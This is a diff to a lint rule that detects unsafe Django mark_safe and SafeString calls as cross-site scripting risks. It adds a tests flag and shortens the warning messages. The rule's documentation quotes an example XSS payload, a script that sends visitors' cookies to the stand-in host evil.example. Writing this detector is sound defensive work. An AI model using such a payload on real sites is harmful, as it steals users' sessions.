@@ -28,6 +28,7 @@ export default defineRule({
     // Bandit's B703 reports the same calls.
     alsoCovers: ['B703'],
     fixable: false,
+    offInTests: true,
     docs: {
       what: 'Finds `django.utils.safestring.mark_safe(value)` (and `SafeString(value)`, `@mark_safe` on a function) where `value` is a variable, parameter, attribute or call result whose content is not visible at the call. Literals, strings built only from constants and values passed through `escape`, `conditional_escape`, `format_html`, `render_to_string` or a sanitizer are not reported; strings formatted with run-time values are reported by PW805.',
       why: '`mark_safe` tells Django\'s templates not to escape the string. If any part of it came from a user — a profile field, a query parameter, a database row someone else wrote — and was not escaped on the way, a value like `<script>document.location="https://evil.example/?"+document.cookie</script>` runs in the browser of everyone who views the page (cross-site scripting): sessions are stolen and actions are taken as the victim.',
@@ -50,7 +51,7 @@ export default defineRule({
     if (!argument) return;
     if (classifyHtml(argument.value, context).kind !== 'opaque') return;
     context.report(call.node, {
-      message: `\`${call.callee.text}(${short(argument.value.text)})\` stops Django from escaping \`${short(argument.value.text)}\`; if any of it comes from a user unescaped, a \`<script>\` in it runs in visitors' browsers (cross-site scripting). Escape the parts that are text — build the HTML with \`format_html("<b>{}</b>", value)\` or pass text through \`escape()\` — and keep \`mark_safe\` for HTML the program wrote.`,
+      message: `\`${call.callee.text}\` stops Django escaping \`${short(argument.value.text)}\`; if it holds user input, use \`format_html\` (XSS).`,
     });
   },
 
@@ -61,7 +62,7 @@ export default defineRule({
     const definition = decorator.parent?.type === 'decorated_definition' ? decorator.parent.childForFieldName('definition') : undefined;
     const name = definition?.childForFieldName('name')?.text ?? 'the function';
     context.report(decorator, {
-      message: `\`@${reference.node.text}\` marks everything \`${name}\` returns as safe HTML, so nothing it returns is escaped; if the result includes user data that was not escaped, a \`<script>\` in it runs in visitors' browsers (cross-site scripting). Build the result with \`format_html()\` instead and drop the decorator.`,
+      message: `\`@${reference.node.text}\` marks all \`${name}\` returns as safe HTML (XSS if it includes user data); use \`format_html\`.`,
     });
   },
 });
